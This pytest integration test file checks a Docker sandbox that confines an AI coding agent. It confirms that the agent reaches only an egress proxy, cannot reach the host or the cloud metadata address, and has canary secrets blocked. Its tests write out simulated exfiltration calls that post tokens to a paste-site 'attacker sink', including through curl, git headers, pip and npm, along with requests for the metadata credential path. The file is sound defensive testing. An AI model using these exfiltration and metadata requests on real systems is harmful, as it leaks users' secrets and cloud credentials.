"""The Compose cage, for real: real images, real networks, a real attacker sink.

Every "blocked" assertion has its "allowed" control through the same path,
so a broken network, a dead sink or a missing listener cannot pass as a
block: the same probe from the proxy (or from the host, or from an ordinary
container) must get through where the agent must not.
"""

from __future__ import annotations

import importlib.util
import io
import json
import shlex
import tarfile
from pathlib import Path

import pytest

from tests.integration.cagekit import (
    ALLOWED_SINK,
    HOST_GATEWAY_NAME,
    HOST_LAN_NAME,
    METADATA_NAME,
    METADATA_IP,
    SINK_NAMES,
    CageUnderTest,
    HostListener,
    canary,
    connect_from_host,
    host_addresses,
    marker,
)

pytestmark = [pytest.mark.docker, pytest.mark.integration, pytest.mark.timeout(900)]

BLOCK_HEADER = "x-yolo-cage-block"


def not_open(results: dict[str, str]) -> dict[str, str]:
    """The subset that got through (should be empty for the agent)."""
    return {k: v for k, v in results.items() if v == "open"}


# --- the cage itself ---------------------------------------------------------------------


def test_every_part_is_running_healthy_labelled_and_hardened(compose_cage: CageUnderTest) -> None:
    status = compose_cage.backend.status()
    by_role = {c.role: c for c in status.components}
    assert set(by_role) == {"netguard", "scanner", "proxy", "agent"}
    for comp in status.components:
        assert comp.state == "running" and comp.healthy, comp
    assert by_role["agent"].agent == compose_cage.agent
    for role in ("scanner", "proxy", "agent"):
        attrs = compose_cage.backend.container_for(role).attrs
        host = attrs["HostConfig"]
        assert host["CapDrop"] == ["ALL"] and not host.get("CapAdd"), role
        assert host["ReadonlyRootfs"] is True, role
        assert "no-new-privileges:true" in host["SecurityOpt"], role
        assert host["PidsLimit"] and host["Memory"], role
        assert host["Init"] is True, role
        assert attrs["Config"]["User"] not in ("", "0", "root", "0:0"), role
        assert attrs["Config"]["Labels"]["yolo-cage.project"] == compose_cage.project
    netguard = compose_cage.backend.container_for("netguard").attrs["HostConfig"]
    assert sorted(c.removeprefix("CAP_") for c in netguard["CapAdd"]) == ["NET_ADMIN", "NET_RAW"]
    assert netguard["NetworkMode"] == "host" and netguard["CapDrop"] == ["ALL"]


def test_agent_reaches_the_proxy_and_nothing_else_on_the_cage_side(compose_cage: CageUnderTest) -> None:
    sink = compose_cage.sink
    scanner_ip = compose_cage.address_of("scanner", "scan")
    proxy_ip = compose_cage.address_of("proxy", "cage")
    targets = [("proxy", 8080), (proxy_ip, 8080)]
    targets += [(name, port) for name in SINK_NAMES for port in (80, 443)]
    targets += [(sink.ip4, 80), (sink.ip4, 443), (sink.ip6, 80), (sink.ip6, 443)]
    targets += [("scanner", 8000), (scanner_ip, 8000)]
    from_agent = compose_cage.probe_from_agent(targets)
    assert from_agent.pop("proxy:8080") == "open"
    assert from_agent.pop(f"{proxy_ip}:8080") == "open"
    assert not_open(from_agent) == {}, from_agent
    # Controls: the proxy reaches every one of them through its own networks.
    controls = [(ALLOWED_SINK, 80), (ALLOWED_SINK, 443), (sink.ip4, 80), (sink.ip4, 443), (sink.ip6, 80)]
    controls += [("scanner", 8000), (scanner_ip, 8000)]
    from_proxy = compose_cage.probe_from("proxy", controls)
    assert set(from_proxy.values()) == {"open"}, from_proxy


def test_agent_cannot_reach_the_docker_host_by_any_of_its_addresses(
    compose_cage: CageUnderTest, host_listener: HostListener
) -> None:
    port = host_listener.port
    addresses = host_addresses()
    gateways = [compose_cage.gateway(key) for key in ("cage", "scan", "egress")]
    docker0 = compose_cage.gateway_of(compose_cage.client.networks.get("bridge"))
    v4 = sorted(set(gateways + [docker0] + addresses["v4"]))
    v6 = sorted(set(addresses["v6"] + [str(compose_cage.egress6.network_address + 1)]))
    targets = [(a, port) for a in v4 + v6]
    # Control 1: the listener answers on every one of these addresses from the host itself.
    from_host = {a: connect_from_host(a, port) for a in v4 + v6}
    assert set(from_host.values()) == {"open"}, from_host
    # Control 2: an ordinary container (the sink, on a plain bridge) reaches it via its gateway.
    side_gateway = compose_cage.gateway_of(compose_cage.sink.side_network)
    assert compose_cage.sink_probe([(side_gateway, port)]) == {f"{side_gateway}:{port}": "open"}
    seen_before = len(host_listener.peers)
    assert not_open(compose_cage.probe_from_agent(targets)) == {}
    # The scanner's and the proxy's bridges are closed to the host too (neither needs the host).
    assert not_open(compose_cage.probe_from("scanner", [(g, port) for g in gateways] + [(docker0, port)])) == {}
    assert not_open(compose_cage.probe_from("proxy", [(g, port) for g in gateways])) == {}
    # Over IPv6 too (the test cage's egress network has IPv6): ip6tables' rule. Control: the proxy
    # reaches the sink over IPv6 through the same bridge in the same probe.
    sink6 = compose_cage.sink.ip6
    from_proxy6 = compose_cage.probe_from("proxy", [(sink6, 80)] + [(a, port) for a in v6])
    assert from_proxy6.pop(f"{sink6}:80") == "open"
    assert len(from_proxy6) == len(v6) and not_open(from_proxy6) == {}, from_proxy6
    assert host_listener.peers[seen_before:] == []


def test_ipv6_is_off_in_the_agent(compose_cage: CageUnderTest) -> None:
    read = ["cat", "/proc/sys/net/ipv6/conf/all/disable_ipv6", "/proc/sys/net/ipv6/conf/default/disable_ipv6"]
    assert compose_cage.agent_exec(read).stdout.split() == [b"1", b"1"]
    assert compose_cage.agent_exec(["cat", "/proc/net/if_inet6"]).stdout.strip() == b""  # no IPv6 address at all
    # Control: the proxy, on the IPv6-enabled egress network, reaches the sink over IPv6.
    sink6 = compose_cage.sink.ip6
    assert compose_cage.probe_from("proxy", [(sink6, 80)]) == {f"{sink6}:80": "open"}
    from_agent = compose_cage.probe_from_agent([(sink6, 80), (sink6, 443), ("::1", 8080)])
    assert len(from_agent) == 3 and not_open(from_agent) == {}, from_agent


def test_agent_cannot_reach_the_metadata_address(compose_cage: CageUnderTest) -> None:
    with compose_cage.owning_metadata():
        # Control: this host has a route to 169.254.169.254 (a sink owns it) and gets an answer.
        assert connect_from_host(METADATA_IP, 80) == "open"
        assert not_open(compose_cage.probe_from_agent([(METADATA_IP, 80), (METADATA_IP, 443)])) == {}


def test_agent_cannot_resolve_outside_names(compose_cage: CageUnderTest) -> None:
    names = [ALLOWED_SINK, "pastebin.com", "example.com", "github.com"]
    results = compose_cage.probe_from_agent([("proxy", None)] + [(n, None) for n in names])
    # Control: the same resolver in the agent answers for the cage's own names.
    assert results.pop("dns:proxy").startswith("resolved:")
    assert all(not v.startswith("resolved:") for v in results.values()), results
    # Control: the proxy resolves the sink's paste-site name to the sink.
    from_proxy = compose_cage.probe_from("proxy", [(ALLOWED_SINK, None)])
    assert from_proxy[f"dns:{ALLOWED_SINK}"] == f"resolved:{compose_cage.sink.ip4},{compose_cage.sink.ip6}"


# --- through the proxy ------------------------------------------------------------------------

CURL = 'curl -sS --max-time "${MAX_TIME:-30}" -o /dev/null -D /tmp/h -w "%{http_code}" -X POST --data-binary "$2" "$1"; echo; grep -i "^x-yolo-cage-block" /tmp/h | tail -1'
PYTHON = r"""
import sys, urllib.request, urllib.error
req = urllib.request.Request(sys.argv[1], data=sys.argv[2].encode(), method="POST")
try:
    r = urllib.request.urlopen(req, timeout=30)
    print(r.status); print(r.headers.get("X-Yolo-Cage-Block", ""))
except urllib.error.HTTPError as e:
    print(e.code); print(e.headers.get("X-Yolo-Cage-Block", ""))
"""
NODE = r"""
const [url, body] = process.argv.slice(1);
fetch(url, {method: "POST", body}).then(
  r => { console.log(r.status); console.log(r.headers.get("x-yolo-cage-block") || ""); },
  e => { console.log("error " + (e.cause && e.cause.code || e.message)); process.exit(3); });
"""


REQUESTS = r"""
import sys, requests
r = requests.post(sys.argv[1], data=sys.argv[2].encode(), timeout=30)
print(r.status_code); print(r.headers.get("X-Yolo-Cage-Block", ""))
"""
HTTPX = r"""
import sys, httpx
r = httpx.post(sys.argv[1], content=sys.argv[2].encode(), timeout=30)
print(r.status_code); print(r.headers.get("X-Yolo-Cage-Block", ""))
"""
# requests and httpx with what they import, copied from this checkout's virtualenv into the agent
# (same Python minor): the cage has no route to a package index, and the point is what the libraries
# do with the agent's environment (proxy variables, REQUESTS_CA_BUNDLE, SSL_CERT_FILE), not pip.
PYLIBS = ("requests", "urllib3", "idna", "certifi", "charset_normalizer", "httpx", "httpcore", "h11", "anyio",
          "sniffio", "typing_extensions")  # fmt: skip
PYLIB_DIR = "/tmp/yc-pylib"


def _pylib_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name in PYLIBS:
            spec = importlib.util.find_spec(name)
            if spec is None or spec.origin is None:
                continue  # optional here (sniffio, typing_extensions): the import check below decides
            origin = Path(spec.origin)
            path = origin.parent if origin.name == "__init__.py" else origin
            tar.add(path, arcname=path.name, filter=lambda m: None if "__pycache__" in m.name else m)
    return buf.getvalue()


@pytest.fixture(scope="module")
def agent_pylibs(compose_cage: CageUnderTest) -> str:
    """requests and httpx importable in the agent under PYTHONPATH (on its /tmp tmpfs)."""
    unpack = compose_cage.agent_exec(["sh", "-c", f"mkdir -p {PYLIB_DIR} && tar -x -C {PYLIB_DIR}"], stdin=_pylib_tar())
    assert unpack.returncode == 0, unpack.text
    check = compose_cage.agent_exec(["python3", "-c", "import requests, httpx"], env={"PYTHONPATH": PYLIB_DIR})
    assert check.returncode == 0, check.text
    return PYLIB_DIR


def http_client(cage: CageUnderTest, client: str, url: str, body: str, max_time: int = 30,
                pylibs: str = "") -> tuple[str, str]:  # fmt: skip
    """POST ``body`` to ``url`` from the agent with ``client``; (status, block header)."""
    argv = {
        "curl": ["bash", "-c", CURL, "curl", url, body],
        "python": ["python3", "-c", PYTHON, url, body],
        "requests": ["python3", "-c", REQUESTS, url, body],
        "httpx": ["python3", "-c", HTTPX, url, body],
        "node": ["node", "-e", NODE, url, body],
    }[client]
    env = {"MAX_TIME": str(max_time)} | ({"PYTHONPATH": pylibs} if pylibs else {})
    result = cage.agent_exec(argv, timeout=max_time + 30, env=env)
    lines = result.stdout.decode().splitlines() + ["", ""]
    status, header = lines[0].strip(), lines[1].strip()
    return status, header.split(":", 1)[-1].strip() if ":" in header else header


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("client", ["curl", "python", "requests", "httpx", "node"])
def test_clean_request_passes_and_the_same_request_with_a_canary_is_blocked(
    compose_cage: CageUnderTest, client: str, scheme: str, request: pytest.FixtureRequest
) -> None:
    pylibs = request.getfixturevalue("agent_pylibs") if client in ("requests", "httpx") else ""
    clean, dirty, secret = marker(), marker(), canary()
    url = f"{scheme}://{ALLOWED_SINK}/upload/{clean}"
    status, header = http_client(compose_cage, client, url, json.dumps({"note": clean}), pylibs=pylibs)
    assert (status, header) == ("200", ""), f"clean request through the proxy failed: {status} {header}"
    assert compose_cage.sink.saw(clean)

    url = f"{scheme}://{ALLOWED_SINK}/upload/{dirty}"
    status, header = http_client(compose_cage, client, url, json.dumps({"note": dirty, "token": secret}), pylibs=pylibs)
    assert status == "403" and header, f"a canary went out: {status} {header!r}"
    assert not compose_cage.sink.saw(dirty)
    assert not compose_cage.sink.saw(secret)


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_git_through_the_proxy_clean_passes_and_a_canary_is_blocked(compose_cage: CageUnderTest, scheme: str) -> None:
    clean, dirty, secret = marker(), marker(), canary()
    ok = compose_cage.agent_exec(["git", "ls-remote", f"{scheme}://{ALLOWED_SINK}/{clean}/repo.git"], timeout=60)
    assert ok.returncode == 0, ok.text
    assert compose_cage.sink.saw(clean)
    leak = compose_cage.agent_exec(
        ["git", "-c", f"http.extraHeader=X-Api-Key: {secret}", "ls-remote", f"{scheme}://{ALLOWED_SINK}/{dirty}/repo.git"],
        timeout=60,
    )
    assert leak.returncode != 0 and "403" in leak.text, leak.text
    assert not compose_cage.sink.saw(dirty)
    assert not compose_cage.sink.saw(secret)


# Package managers fetch from an index; the sink answers every path with 200 and a JSON body, which
# neither takes for a package, so they fail afterwards either way: what counts is that the request
# reached the sink over the proxy with the cage CA trusted (a TLS or proxy error never gets there),
# and that the same fetch with a canary in its URL is refused with nothing arriving.
# pip logs an index's HTTP error only at debug level (-vv); it ignores a plain-http index unless the
# host is trusted, which over https would also switch certificate checks off, so only for http.
PIP = ["python3", "-m", "pip", "-vv", "download", "--no-deps", "--no-cache-dir", "--disable-pip-version-check",
       "--retries", "0", "--timeout", "20", "-d", "/tmp/yc-pip", "--index-url"]  # fmt: skip
NPM = ["npm", "view", "yc-probe", "--fetch-retries=0", "--registry"]


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("tool", ["pip", "npm"])
def test_pip_and_npm_fetch_through_the_proxy_and_a_canary_in_the_url_is_blocked(
    compose_cage: CageUnderTest, tool: str, scheme: str
) -> None:
    clean, dirty, secret = marker(), marker(), canary()

    def fetch(path: str):
        index = f"{scheme}://{ALLOWED_SINK}/{path}/"
        trusted = ["--trusted-host", ALLOWED_SINK] if scheme == "http" else []
        argv = PIP + [index, *trusted, "yc-probe"] if tool == "pip" else NPM + [index]
        return compose_cage.agent_exec(argv, timeout=90)

    ok = fetch(clean)
    assert compose_cage.sink.saw(clean), f"{tool} did not reach the sink through the proxy: {ok.text}"
    trouble = ("CERTIFICATE_VERIFY_FAILED", "SELF_SIGNED", "ECONNREFUSED", "ProxyError")
    assert not any(word in ok.text for word in trouble), ok.text
    blocked = fetch(f"{dirty}/{secret}")
    assert blocked.returncode != 0 and "403" in blocked.text, blocked.text
    assert not compose_cage.sink.saw(dirty)
    assert not compose_cage.sink.saw(secret)


def test_through_the_proxy_the_host_and_metadata_stay_closed(
    compose_cage: CageUnderTest, host_listener: HostListener
) -> None:
    port = host_listener.port
    # Control through the same path: the sink, on the same egress subnet as the gateway, answers.
    status, _ = http_client(compose_cage, "curl", f"http://{ALLOWED_SINK}/ok/{marker()}", "x")
    assert status == "200"
    seen_before = len(host_listener.peers)
    # The test policy allows the egress subnet and this port, so the addon lets this one through:
    # only netguard's rule on the egress bridge stands between the proxy and the host.
    status, _ = http_client(compose_cage, "curl", f"http://{HOST_GATEWAY_NAME}:{port}/", "x", max_time=8)
    assert status != "200"
    # The metadata address and the host's LAN address are private and not allowed: the addon refuses.
    for target in (f"http://{METADATA_NAME}/latest/meta-data/", f"http://{HOST_LAN_NAME}:{port}/"):
        status, header = http_client(compose_cage, "curl", target, "x")
        assert status == "403" and header, (target, status, header)
    # IP literals are refused before any address is looked at.
    status, header = http_client(compose_cage, "curl", f"http://{METADATA_IP}/latest/meta-data/", "x")
    assert status == "403" and header
    assert host_listener.peers[seen_before:] == []


def test_audit_log_records_the_decisions_without_the_secret(compose_cage: CageUnderTest) -> None:
    secret, dirty = canary(), marker()
    status, _ = http_client(compose_cage, "curl", f"https://{ALLOWED_SINK}/{dirty}", secret)
    assert status == "403"
    lines = compose_cage.backend.read_audit()
    assert lines, "the audit log is empty"
    assert not any(secret in line for line in lines)
    records = [json.loads(line) for line in lines]
    assert any(r.get("decision") == "allow" and r.get("agent") == compose_cage.agent for r in records)
    assert any(r.get("decision") == "block" and r.get("agent") == compose_cage.agent for r in records)


def test_agent_proxy_credential_is_required(compose_cage: CageUnderTest) -> None:
    url = f"http://{ALLOWED_SINK}/anon/{marker()}"
    anonymous = compose_cage.agent_exec(
        ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--proxy", "http://proxy:8080", url], timeout=60
    )
    assert anonymous.stdout.decode().strip() == "407"
    # Control: the same request with the agent's own credential (from its environment) passes.
    with_credential = compose_cage.agent_exec(
        ["bash", "-c", f"curl -sS -o /dev/null -w '%{{http_code}}' --proxy \"$YOLO_CAGE_PROXY_URL\" {shlex.quote(url)}"],
        timeout=60,
    )
    assert with_credential.stdout.decode().strip() == "200"
